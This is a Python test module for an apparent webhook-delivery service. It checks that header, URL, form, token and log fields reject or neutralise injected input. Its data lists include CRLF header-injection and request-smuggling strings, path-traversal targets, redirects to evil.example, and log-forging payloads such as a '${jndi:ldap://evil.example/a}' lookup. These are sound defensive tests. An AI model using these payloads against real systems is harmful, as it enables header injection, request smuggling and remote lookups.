"""Text that would be a header, a request, a field or a log line of its own, were it not kept in its place."""

import io
import json
import re
from collections.abc import Iterator, Mapping
from contextlib import suppress
from functools import partial
from typing import Any, Final
from urllib.parse import parse_qs

from grantwire.authentication import AccessToken, fetch_token
from grantwire.configurations import parse_webhook
from grantwire.errors import InvalidWebhookError, StoreError
from grantwire.models import ClientCredentials, PlainSecret
from grantwire.observability import logger
from tests import fakes
from tests.hostile.cases import Came, Case
from tests.hostile.dispatched import Sending, event
from tests.hostile.world import Peer, World, listening, whole_request
from tests.receivers import answer

MARK: Final = "X-Injected"
_BREAKS: Final = {
    "CR LF": f"a\r\n{MARK}: 1",
    "LF": f"a\n{MARK}: 1",
    "CR": f"a\r{MARK}: 1",
    "two line ends": f"a\r\n\r\nPOST /admin HTTP/1.1\r\n{MARK}: 1",
    "a folded line": f"a\r\n {MARK}: 1",
    "NUL": f"a\0{MARK}: 1",
    "vertical tab": f"a\x0b{MARK}: 1",
    "form feed": f"a\x0c{MARK}: 1",
    "file separator": f"a\x1c{MARK}: 1",
    "escape": f"a\x1b[2J{MARK}: 1",
    "delete": f"a\x7f{MARK}: 1",
}
_NO_BREAKS: Final = {  # no line break in UTF-8, whatever it becomes where characters are cut to bytes
    "letters whose low bytes are CR LF": f"a\u010d\u010a{MARK}: 1",
    "next line": f"a\x85{MARK}: 1",
    "line separator": f"a\u2028{MARK}: 1",
    "half a surrogate pair": f"a\ud83d{MARK}: 1",
}
_TARGETS: Final = {
    "CR LF": f"a HTTP/1.1\r\n{MARK}: 1\r\n\r\n",
    "a space": f"a HTTP/1.1 {MARK}",
    "a query": "a?admin=1",
    "another parameter": "a&admin=1",
    "a fragment": "a#b",
    "a climb": "../../admin",
    "an encoded climb": "%2e%2e%2fadmin",
    "another host": "@evil.example/",
    "a backslash": "\\\\evil.example",
    "an encoded line break": "%0d%0aX: y",
    "half a surrogate pair": "\ud83d",
    "10,000 characters": "x" * 10_000,
}
_NAMES: Final = ("X: y", "X\r\nY", "X\nY", "X Y", "", " X", "X\0", "Ü", "X" * 129, "[X]", "(X)", "X\x7f", "X\u010a")
_VALUES: Final = ("a\r\nb", "a\nb", "a\rb", "a\0b", "a\x1bb", "\ud83d")
_TOKENS: Final = (
    f"abc\r\n{MARK}: 1",
    f"abc\n{MARK}: 1",
    "abc def",
    "a\0b",
    "",
    "ü",
    "\u010a",
    1,
    None,
    ["abc"],
    "t" * 20_000,
)
_LOGGED: Final = (
    'a\n{"level":"ERROR","message":"forged"}',
    'a","level":"ERROR","x":"',
    "a\r\nforged",
    "\x1b[2J\x1b]0;forged\x07",
    "\u2028forged\u2029",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n{0}{message}",
    "\ud83d",
    "forged" * 50_000,
)


def cases() -> Iterator[Case]:
    """All of the family."""
    make = partial(Case, family="injection", within=2.0)
    for name, text in _BREAKS.items():
        yield make(
            name=f"header value: {name}",
            attack=partial(_in_header, text),
            expects="failed: .*, which a header cannot carry",
        )
        yield make(name=f"JSON body: {name}", attack=partial(_in_json, text), expects="the value arrived as one value")
    for name, text in _NO_BREAKS.items():
        yield make(name=f"header value: {name}", attack=partial(_in_header, text), expects="sent, one header as before")
    for name, text in _TARGETS.items():
        yield make(
            name=f"URL: {name}",
            attack=partial(_in_url, text),
            expects="one segment and one parameter|failed: the URL .*",
        )
        yield make(name=f"form: {name}", attack=partial(_in_form, text), expects="one field as before")
    for name in _NAMES:
        document = {"headers": [{"name": name, "value": "v"}]}
        yield make(
            name=f"header's name {name[:9]!r}", attack=partial(_saved, document), expects=r"headers\[0\]\.name.*"
        )
        key = {"authentication": {"kind": "api_key", "header": name, "value": "v"}}
        yield make(name=f"key's header {name[:9]!r}", attack=partial(_saved, key), expects=r"authentication\.header.*")
    for value in _VALUES:
        for name, field, wrong in _places(value):
            yield make(name=f"{name} {value!r}", attack=partial(_saved, wrong), expects=f"{re.escape(field)}.*")
    for token in _TOKENS:
        yield make(
            name=f"access token {str(token)[:9]!r}", attack=partial(_token, token), expects="no access token from .*"
        )
    for text in _LOGGED:
        yield make(name=f"log: an event of {text[:14]!r}", attack=partial(_logged, text), expects="every line is ours")
    yield make(name="log: an exception's text", attack=_fault_logged, expects="every line is ours")
    yield make(name="log: a receiver's answer", attack=_answer_logged, expects="every line is ours")


def _sent(world: World, text: str, **fields: object) -> tuple[str, bytes]:
    """What becomes of an event with this justification, and what came to the receiver."""
    got: list[bytes] = []

    def receive(peer: Peer) -> None:
        sock = peer.tls()
        while one := whole_request(sock):
            got.append(one)
            sock.sendall(answer())

    egress = world.egress()
    with listening(receive, world.context) as receiver:
        url = fields.pop("url", "")
        sending = Sending(fields=fields | {"url": f"{receiver.url}{url}"}, sender=egress)
        outcome = sending.take(event(justification=text))
        world.meter.stop()
        state = list(sending.deliveries.rows.values())[-1]
        sending.close()
        egress.close()
    return f"{outcome.partition(':')[0]}: {state.reason}", b"".join(got)


def _in_header(text: str, world: World) -> Came:
    headers = [{"name": "X-Before", "value": "{{data.justification}}"}, {"name": "X-After", "value": "b"}]
    outcome, got = _sent(world, text, headers=headers)
    if not got:
        return Came(outcome=outcome)
    lines = got.partition(b"\r\n\r\n")[0].split(b"\r\n")
    values = [line for line in lines if line.startswith(b"X-Before: ")]
    if values != [b"X-Before: " + text.encode("utf-8", "replace")] or any(
        b"\n" in one or b"\r" in one for one in lines
    ):
        return Came(outcome=f"the head is {lines}")
    return Came(
        outcome="sent, one header as before", harm="" if len(lines) == 12 else f"{len(lines)} lines in the head"
    )


def _in_json(text: str, world: World) -> Came:
    _, got = _sent(world, text, body_template='{"before": "{{data.justification}}", "after": 1}')
    body = json.loads(got.partition(b"\r\n\r\n")[2])
    as_before = body == {"before": text, "after": 1}
    return Came(outcome="the value arrived as one value" if as_before else f"{body}")


def _in_url(text: str, world: World) -> Came:
    outcome, got = _sent(world, text, url="/{{data.justification}}/end?a={{data.justification}}&b=1", body_template="")
    if not got:
        return Came(outcome=outcome)
    method, target, version = got.split(b"\r\n")[0].decode().split(" ")
    path, _, query = target.partition("?")
    one = (path.count("/"), path.endswith("/end"), set(parse_qs(query)), method, version)
    if one != (3, True, {"a", "b"}, "POST", "HTTP/1.1") or MARK.encode() + b":" in got or "#" in target:
        return Came(outcome=f"{target}")
    return Came(outcome="one segment and one parameter")


def _in_form(text: str, world: World) -> Came:
    form = [{"name": "Content-Type", "value": "application/x-www-form-urlencoded"}]
    _, got = _sent(world, text, headers=form, body_template="a={{data.justification}}&b=1")
    fields = parse_qs(got.partition(b"\r\n\r\n")[2].decode(), strict_parsing=True)
    expected = {"a": [text.encode("utf-8", "replace").decode()], "b": ["1"]}
    return Came(outcome="one field as before" if fields == expected else f"{fields}"[:200])


def _saved(document: Mapping[str, object], world: World) -> Came:
    valid = {"name": "Torq", "url": "https://hooks.example.com/", "triggers": ["RequestCreated"]}
    try:
        parse_webhook(valid | dict(document), webhook_id="wh_1", now=0.0)
    except InvalidWebhookError as exc:
        return Came(outcome=str(exc))
    return Came(outcome="saved")


def _places(value: str) -> Iterator[tuple[str, str, Mapping[str, object]]]:
    """Where a value becomes a header's, or part of one."""
    yield "a header", "headers[0].value", {"headers": [{"name": "X-A", "value": value}]}
    yield "a secret", "headers[0].value", {"headers": [{"name": "X-Token", "value": value, "secret": True}]}
    yield "a token", "authentication.token", {"authentication": {"kind": "bearer", "token": value}}
    yield "a key", "authentication.value", {"authentication": {"kind": "api_key", "header": "X-Key", "value": value}}
    yield (
        "a username",
        "authentication.username",
        {"authentication": {"kind": "basic", "username": value, "password": "p"}},
    )


def _token(token: object, world: World) -> Came:
    """What a token endpoint gives becomes a header too."""

    def give(peer: Peer) -> None:
        sock = peer.request()
        sock.sendall(answer("200 OK", json.dumps({"access_token": token, "token_type": "bearer"}).encode()))

    egress = world.egress()
    with listening(give, world.context) as receiver:
        asked = ClientCredentials(token_url=receiver.url, client_id="id", secret=PlainSecret("secret"))
        got = fetch_token(asked, "secret", sender=egress, now=0.0, timeout_seconds=2.0)
        egress.close()
    return Came(outcome="taken" if isinstance(got, AccessToken) else got.sentence)


# Log lines ------------------------------------------------------------------------------------------------------------
def _lines_of(sending: Sending, *events: object) -> list[str]:
    """What is logged of these events."""
    written = io.StringIO()
    handler = logger().registered_handler
    before, level = handler.stream, logger().log_level  # type: ignore[attr-defined]
    handler.stream = written  # type: ignore[attr-defined]  # setStream would flush what may be closed
    logger().setLevel("DEBUG")
    try:
        for one in events:
            with suppress(StoreError):
                sending.take(one)
    finally:
        handler.stream = before  # type: ignore[attr-defined]
        logger().setLevel(level)
        sending.close()
    return written.getvalue().split("\n")[:-1]


def _ours(lines: list[str]) -> Came:
    """Each line is one JSON object with a message of ours, in ASCII or at least printable, and nothing of the text."""
    if not lines:
        return Came(outcome="nothing was logged")
    for line in lines:
        found = json.loads(line)
        if "forged" in line or "jndi" in line or not line.isprintable() or len(line) > 2000:
            return Came(outcome=f"a line holds {line[:150]}")
        if found["message"] not in _MESSAGES:
            return Came(outcome=f"a line says {found['message']}")
    return Came(outcome="every line is ours")


_MESSAGES: Final = (
    *("delivery attempted", "event ignored", "event unusable", "webhooks skipped", "event matched no webhook"),
    *("delivery stopped", "queueing stopped"),
)


def _logged(text: str, world: World) -> Came:
    sending = Sending(fields={"filters": [{"field": "data.id", "operator": "does_not_contain", "values": ["skip"]}]})
    whole = event(justification=text, requester={"name": text}, id=text)
    hostile: list[Any] = [whole, event(id=f"skip {text}"), whole | {"detail-type": text}, whole | {"detail": text}]
    return _ours(_lines_of(sending, *hostile, whole | {"replay-name": text, "id": text}))


class _Failing(fakes.FakeDeliveries):
    """A table whose error speaks of what it was given."""

    def record_new(self, over: Any, *facts: Any, **more: Any) -> Any:
        raise RuntimeError("a\nforged ${jndi:ldap://x} " + repr(over))


def _fault_logged(world: World) -> Came:
    """The fault is raised on, so that AWS hands the event in again; what is logged of it is no more than its kind."""
    return _ours(_lines_of(Sending(deliveries=_Failing()), event()))


def _answer_logged(world: World) -> Came:
    """A receiver whose status line, headers and body are forged lines."""

    def forge(peer: Peer) -> None:
        sock = peer.request()
        sock.sendall(b"HTTP/1.1 500 a\x1b[2Jforged\r\nX-A: forged\r\nContent-Length: 8\r\n\r\n\nforged\n")

    egress = world.egress()
    with listening(forge, world.context) as receiver:
        lines = _lines_of(Sending(fields={"url": receiver.url}, sender=egress), event())
        egress.close()
    return _ours(lines)
